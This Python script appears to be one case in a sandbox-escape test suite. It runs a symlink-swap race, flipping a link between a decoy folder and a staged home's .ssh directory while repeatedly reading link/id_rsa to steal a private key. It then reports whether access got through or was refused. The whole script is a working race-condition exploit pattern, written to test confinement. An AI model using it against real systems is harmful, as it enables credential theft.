# name: swap a link while it is being followed
# line: 50
import os
import threading

from attack import STAGE, own_directory, refused, secret_at, through

ROUNDS = 3000
place = own_directory("race")
os.mkdir(f"{place}/good")
with open(f"{place}/good/id_rsa", "w", encoding="utf-8") as file:
    file.write("nothing")
os.symlink(f"{place}/good", f"{place}/link")
going = True


def swap():
    while going:
        for target in (f"{STAGE['home']}/.ssh", f"{place}/good"):
            os.symlink(target, f"{place}/next")
            os.rename(f"{place}/next", f"{place}/link")


thread = threading.Thread(target=swap)
thread.start()
got = errors = None
for _ in range(ROUNDS):
    try:
        got = got or secret_at(f"{place}/link/id_rsa")
    except OSError as error:
        errors = error
going = False
thread.join()
if got:
    through(got)
refused(f"{errors} in {ROUNDS} rounds")
